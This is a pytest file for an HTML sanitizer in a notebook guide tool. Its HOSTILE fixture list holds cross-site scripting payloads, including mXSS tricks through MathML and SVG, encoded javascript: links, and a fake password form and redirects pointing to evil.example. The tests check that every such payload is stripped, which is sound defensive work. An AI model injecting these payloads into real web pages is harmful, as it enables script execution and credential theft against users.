"""What of a guide's HTML reaches a reader's page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from stepguide_kernel.notebook.formulas import held, typeset
from stepguide_kernel.room.live_output import live_output
from stepguide_kernel.room.sanitizing import clean_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://tracker.example/p.gif">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#115;cript:alert(1)">x</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    '<svg onload="alert(1)"><use href="data:image/svg+xml,x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<math alttext="x"><mtext></math><img src=x onerror=alert(1)></mtext></math>',
    '<math alttext="\\href{javascript:alert(1)}{x}"></math>',
    '<math alttext="&quot; onload=alert(1)"></math>',
    '<code class="sg-math">\\text{&lt;/math>&lt;img src=x onerror=alert(1)>}</code>',
    '<object data="x"></object><embed src="x">',
    '<button data-commandlinker-command="x">x</button>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<h3 id="sg-status-not">x</h3><p id="steps" name="cookie">x</p>',
]
FORBIDDEN = {"base", "button", "embed", "form", "iframe", "input", "link", "meta", "object"}
FORBIDDEN |= {"script", "style", "svg", "use"}


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_that_acts_is_left(payload: str) -> None:
    for tag, attributes in _Tags(clean_html(f"<p>before</p>{payload}<p>after</p>")).found:
        assert tag not in FORBIDDEN
        assert not [name for name in attributes if name.startswith(("on", "data-"))]
        assert "name" not in attributes
        assert attributes.get("id", "sg-").startswith("sg-")
        assert "position" not in attributes.get("style", "")
        for name in ("href", "src"):
            value = attributes.get(name, "#").strip().lower()
            assert value.startswith(("#", "http://", "https://", "data:image/"))
            if name == "src":
                assert value.startswith(("#", "data:image/"))


def test_a_table_of_pandas_stays_a_table() -> None:
    table = (
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>'
        "<th>eur</th></tr></thead><tbody><tr><th>0</th><td>10.0</td></tr></tbody></table>"
    )
    tags = [tag for tag, _ in _Tags(clean_html(table)).found]
    assert tags == ["table", "thead", "tr", "td", "th", "tbody", "tr", "th", "td"]


def test_pictures_inside_the_page_stay_and_links_lead_away_safely() -> None:
    html = clean_html(
        '<img alt="x" src="data:image/png;base64,AA=="><a href="https://a.example">a</a>'
    )
    assert 'src="data:image/png;base64,AA=="' in html
    assert 'rel="noopener noreferrer"' in html


def test_live_html_is_cleaned_and_left_to_lab_as_untrusted() -> None:
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": "<b onclick='x'>b</b>", "application/javascript": "alert(1)"},
    }
    sent = live_output(output)
    assert sent["data"] == {"text/html": "<b>b</b>"}
    assert sent["trusted"] is False
    assert "application/javascript" in output["data"]  # its input is left alone


def test_live_widgets_and_pictures_are_drawn() -> None:
    for kind in ("application/vnd.jupyter.widget-view+json", "image/svg+xml"):
        assert live_output({"data": {kind: {}}})["trusted"] is True


def test_a_formula_that_was_drawn_is_drawn_again_and_no_other_mathml_stands() -> None:
    drawn = typeset(held("x^2", display=True))
    assert clean_html(f"<p>{drawn}</p>") == f"<p>{drawn}</p>"
    assert "<m" not in clean_html("<math><mi>x</mi></math>")


def test_a_live_formula_is_drawn_as_the_stored_one_was() -> None:
    shown = live_output({"output_type": "display_data", "data": {"text/latex": "$x^2$"}})
    assert "<msup>" in shown["data"]["text/html"]
    assert shown["trusted"] is True


@pytest.mark.parametrize(
    "latex", ["words and $x$", r"\begin{tabular}x\end{tabular}", "$\\def\\a{}$"]
)
def test_live_latex_that_is_no_formula_is_left_to_lab(latex: str) -> None:
    shown = live_output({"output_type": "display_data", "data": {"text/latex": latex}})
    assert shown["data"] == {"text/latex": latex}


def test_a_live_formula_does_not_make_others_html_trusted() -> None:
    data = {"text/latex": "$x$", "text/html": "<b>1</b>"}
    shown = live_output({"output_type": "display_data", "data": data})
    assert (shown["trusted"], shown["data"]["text/html"]) == (False, "<b>1</b>")


def test_live_markdown_is_drawn_as_the_page_draws_it_and_fetches_nothing() -> None:
    markdown = "# So\n\n**b** $x^2$ ![p](https://elsewhere.invalid/p) <img src=x> <meta>"
    shown = live_output({"output_type": "display_data", "data": {"text/markdown": markdown}})
    html = shown["data"].pop("text/html")
    assert shown["data"] == {}
    assert shown["trusted"] is True
    assert "<strong>b</strong>" in html
    assert "<msup>" in html
    assert "<h1" in html
    assert "src=" not in html
    assert "<meta" not in html


@pytest.mark.parametrize(
    ("markup", "link"),
    [
        (
            '<img alt="Map" src="https://elsewhere.example/map.png" width="50">',
            '<a href="https://elsewhere.example/map.png" rel="noopener noreferrer">Picture at ',
        ),
        (
            '<iframe width="400" src="https://elsewhere.example/film?x=1">none</iframe>',
            '<a href="https://elsewhere.example/film?x=1" rel="noopener noreferrer">Page at ',
        ),
    ],
)
def test_what_is_elsewhere_is_a_link_and_is_not_fetched(markup: str, link: str) -> None:
    cleaned = str(clean_html(f"<p>{markup}after</p>"))
    assert link in cleaned
    assert "after" in cleaned
    assert "none" not in cleaned
    assert "src=" not in cleaned
